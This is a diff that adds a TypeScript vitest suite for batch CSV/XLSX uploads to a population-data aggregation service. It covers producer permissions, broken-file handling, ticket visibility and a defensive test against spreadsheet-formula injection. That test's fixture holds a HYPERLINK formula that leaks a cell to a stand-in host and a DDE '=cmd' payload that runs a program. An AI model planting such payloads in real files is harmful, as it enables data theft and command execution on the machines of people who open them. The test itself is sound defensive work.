@@ -1,0 +1,137 @@
+// Batches over HTTP on every engine: who may submit for which resource; bad files of every kind fail
+// with a clear message and leave the store as it was; a spreadsheet-formula value is rejected and no
+// export ever carries it live; the producer's ticket inbox shows only its own tickets.
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { randomBytes } from 'node:crypto';
+import ExcelJS from 'exceljs';
+import { startTestServer, type TestServer } from '../support/server.js';
+import { testEngines } from '../support/engines.js';
+import { drainJobs } from '../support/jobs.js';
+import { Client } from '../support/http.js';
+import { allResources, type ResourceView } from '../../src/catalog/index.js';
+import { datasetTable, liveCount } from '../../src/aggregation/index.js';
+import { idCheckChar } from '../../src/platform/validators/index.js';
+
+const HEADER = '姓名,性别,公民身份号码,出生日期,联系电话,户籍地址';
+const id = (seq: string) => {
+  const first = `350503198001${seq}`;
+  return first + idCheckChar(first);
+};
+const GOOD = `${HEADER}\n张一,1,${id('01001')},1980-01-01,13800138000,示例路1号\n`;
+
+describe.each(testEngines())('batches over HTTP on %s', (engine) => {
+  let server: TestServer;
+  let gaj: Client;
+  let population: ResourceView;
+
+  beforeAll(async () => {
+    server = await startTestServer({ demo: true, engine });
+    population = (await allResources(server.ctx.database.db)).find((r) => r.name === '人口基本信息')!;
+    gaj = new Client(server.url);
+    await gaj.login('gaj');
+  });
+  afterAll(async () => server?.close());
+
+  const upload = (client: Client, body: Buffer | string, fileName: string, resource = population.id) =>
+    client.request(
+      'POST',
+      `/api/v1/aggregation/batches/upload?resource=${resource}&mode=upsert&fileName=${encodeURIComponent(fileName)}`,
+      typeof body === 'string' ? Buffer.from(body) : body,
+      {
+        'content-type': 'application/octet-stream',
+      },
+    );
+
+  async function runUpload(body: Buffer | string, fileName: string) {
+    const r = await upload(gaj, body, fileName);
+    expect([200, 202], JSON.stringify(r.body)).toContain(r.status);
+    await drainJobs(server.ctx);
+    return (await gaj.get(`/api/v1/aggregation/batches/${r.body.batch}`)).body;
+  }
+
+  const storeCount = async () => liveCount(server.ctx.database.db, await datasetTable(server.ctx.database.db, population.id));
+
+  it('accepts a producer’s file and refuses another department’s', async () => {
+    const b = await runUpload(GOOD, 'good.csv');
+    expect(b).toMatchObject({ status: 'applied', applied: 1, rows: 1 });
+    const mzj = new Client(server.url);
+    await mzj.login('mzj');
+    const refused = await upload(mzj, GOOD, 'x.csv');
+    expect(refused.status).toBe(403);
+    expect(refused.body.code).toBe('not_producer');
+    // a department sees only its own batches
+    const list = await mzj.get('/api/v1/aggregation/batches');
+    expect(list.body.items.every((x: { unit: string }) => x.unit !== population.providerUnitId)).toBe(true);
+  });
+
+  it('fails every kind of broken file with a clear message and changes nothing', async () => {
+    const before = await storeCount();
+    const workbook = new ExcelJS.Workbook();
+    workbook.addWorksheet('s').addRow(HEADER.split(','));
+    const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
+    const wide = Array.from({ length: 10_000 }, (_, i) => `列${i}`).join(',') + '\n';
+    const cases: [string, Buffer | string, RegExp][] = [
+      ['truncated.xlsx', xlsx.subarray(0, Math.floor(xlsx.length / 2)), /xlsx|工作簿|损坏|broken|zip/i],
+      ['quotes.csv', `${HEADER}\n"张二,1,${id('01003')},1980-01-01,13800138000,示例路\n`, /引号|quote/i],
+      ['junk.csv', randomBytes(4096), /编码|二进制|binary|encoding|文本/i],
+      ['nul.csv', Buffer.concat([Buffer.from(HEADER + '\n'), Buffer.from([0, 1, 2, 0, 0])]), /二进制|binary|NUL/i],
+      ['wide.csv', wide, /列|column/i],
+      [
+        'latin1.csv',
+        Buffer.concat([Buffer.from(HEADER + '\n张三,1,'), Buffer.from([0xff, 0xfe, 0xfd, 0x80, 0x81, 0x0a])]),
+        /编码|encoding/i,
+      ],
+      ['missing.csv', '姓名,性别\n张四,1\n', /公民身份号码/],
+      ['empty.csv', '', /空|empty/i],
+    ];
+    for (const [name, body, message] of cases) {
+      const r = await upload(gaj, body, name);
+      let outcome: { status?: number; message: string };
+      if (r.status >= 400) outcome = { status: r.status, message: r.body.message };
+      else {
+        await drainJobs(server.ctx);
+        const b = (await gaj.get(`/api/v1/aggregation/batches/${r.body.batch}`)).body;
+        expect(b.status, name).toBe('failed');
+        outcome = { message: b.error.message };
+      }
+      expect(outcome.message, name).toMatch(message);
+      if (outcome.status) expect(outcome.status, name).toBeLessThan(500);
+      expect(await storeCount(), name).toBe(before);
+    }
+  });
+
+  it('rejects spreadsheet formulas, and its problem exports never carry them live', async () => {
+    const body =
+      `${HEADER}\n"=HYPERLINK(""http://x.example/?a=""&A1,""点我"")",1,${id('01005')},1980-01-01,13800138000,示例路\n` +
+      `@SUM(1+1),1,${id('01007')},1980-01-01,13800138000,"=cmd|' /C calc'!A0"\n`;
+    const b = await runUpload(body, 'formula.csv');
+    expect(b).toMatchObject({ status: 'applied', rejected: 2, applied: 0 });
+    expect(b.problems['formula:name']).toBe(2);
+    const csv = await gaj.get(`/api/v1/aggregation/batches/${b.batch}/problems.csv`);
+    expect(csv.status).toBe(200);
+    const lines = String(csv.body)
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split(/\r?\n/)
+      .slice(1);
+    expect(lines.length).toBeGreaterThanOrEqual(3);
+    for (const line of lines) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
+  });
+
+  it('shows a producer only its own tickets, and the regulator all of them', async () => {
+    const good = id('01009');
+    const wrong = good.slice(0, 17) + (good[17] === '0' ? '1' : '0');
+    const b = await runUpload(`${HEADER}\n张五,1,${wrong},1980-01-01,13800138000,示例路\n`, 'bad.csv');
+    expect(b.rejected).toBe(1);
+    const own = await gaj.get('/api/v1/governance/tickets');
+    expect(own.body.items.some((t: { batchId: string }) => t.batchId === b.batch)).toBe(true);
+    const mzj = new Client(server.url);
+    await mzj.login('mzj');
+    expect((await mzj.get('/api/v1/governance/tickets')).body.items).toHaveLength(0);
+    const ticketId = own.body.items.find((t: { batchId: string }) => t.batchId === b.batch).id;
+    expect((await mzj.get(`/api/v1/governance/tickets/${ticketId}`)).status).toBe(404);
+    const regulator = new Client(server.url);
+    await regulator.login('regulator');
+    expect((await regulator.get(`/api/v1/governance/tickets/${ticketId}`)).status).toBe(200);
+  });
+});
